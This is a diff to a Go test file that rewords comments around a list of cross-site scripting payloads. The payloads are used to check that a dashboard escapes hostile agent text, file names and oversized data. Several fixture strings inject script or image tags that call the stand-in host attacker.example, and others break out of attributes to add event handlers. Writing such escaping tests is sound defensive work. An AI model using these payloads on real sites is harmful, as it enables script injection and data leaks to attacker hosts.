@@ -10,7 +10,7 @@ import (
 	"testing"
 )
 
-// attacks are texts that would run, load, lead or restyle something if they reached a page as anything but text.
+// attacks are texts that would run, load, link or restyle something if a page did not escape them.
 var attacks = []string{
 	`<script>window.pwned = 1; fetch("https://attacker.example/1")</script>`,
 	`<img src=x onerror="window.pwned=2"> <img src="https://attacker.example/2.png">`,
@@ -29,8 +29,8 @@ var attacks = []string{
 	`" onmouseover="window.pwned=15" x="` + "' autofocus onfocus='window.pwned=15'",
 }
 
-// hostile is a fleet of one agent that writes nothing else, in texts, in names of files, in old versions and in
-// proposals, and that writes too much: a line of 5 MB and 100,000 entries.
+// hostile serves an agent whose texts, file names, old versions and proposals are attacks, and that writes too much: a line
+// of 5 MB and 100,000 entries.
 func hostile(t *testing.T) (*server, []string) {
 	t.Helper()
 	dir := t.TempDir()
@@ -80,18 +80,18 @@ func hostile(t *testing.T) (*server, []string) {
 	return up, names
 }
 
-// mostBytes is how large a page of the dashboard may be, whatever is in the memory it shows.
+// mostBytes is the maximum size of a page, whatever memory it shows.
 const mostBytes = 100_000
 
-// TestHostile opens every view of a memory that was written to break it. Nothing runs, loads, leads away or restyles,
-// nothing fails, and no page grows beyond its limit.
+// TestHostile opens every view of a hostile memory. Nothing runs, loads, links elsewhere or restyles, nothing fails, and no
+// page exceeds its limit.
 func TestHostile(t *testing.T) {
 	s, names := hostile(t)
 	b := s.login(t)
 	views := []string{"/", "/a/evil", "/inbox", "/inbox?agent=evil", "/jobs", "/jobs?agent=evil", "/jobs?agent=evil&job=curate", "/a/evil?kind=daily+logs&tag=lesson", "/help"}
 	for _, name := range names {
 		if strings.Contains(name, "\n") {
-			continue // such a name is refused; the agent's page lists it
+			continue // the name is refused; the agent's page lists it
 		}
 		var parts []string
 		for p := range strings.SplitSeq(name, "/") {
